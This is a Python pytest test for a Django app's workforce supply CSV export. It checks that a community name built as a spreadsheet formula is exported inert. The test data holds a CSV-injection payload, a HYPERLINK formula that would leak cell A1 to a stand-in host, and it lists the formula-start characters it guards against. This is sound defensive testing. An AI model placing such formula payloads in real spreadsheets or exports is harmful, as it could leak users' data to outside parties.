"""CSV injection in the workforce supply export (/staff/workforce/supply.csv): a vocabulary term's name is typed
in the admin, and a cell of it that a spreadsheet would read as a formula must reach the file inert (OWASP CSV
Injection), as the access log export already makes its free text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import secrets

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from peerway.core.models import Community, Language
from peerway.intake.models import HelpRequest
from tests.helpers import Cast

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_community_named_like_a_formula_reaches_the_supply_csv_inert(cast: Cast, start: str) -> None:
    name = f'{start}HYPERLINK("https://sample.example/?leak="&A1,"Sample community")'
    community = Community.objects.create(slug="sample-formula", name=name)
    request = HelpRequest.objects.create(
        status_token_hash=secrets.token_hex(32),
        status_token_expires_at=timezone.now() + dt.timedelta(days=1),
        contact_method="call",
        phone="(612) 555-0101",
        language=Language.objects.get(slug="en"),
        consent_to_contact=True,
    )
    request.communities.set([community])
    client = Client()
    client.force_login(cast.analyst)
    response = client.get(reverse("career:supply_csv"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    [cell] = [row[1] for row in rows if row[:1] == ["community"] and "Sample community" in row[1]]
    assert not cell.startswith(FORMULA_STARTS), repr(cell)
    assert name in cell, "the name is kept, only made inert"
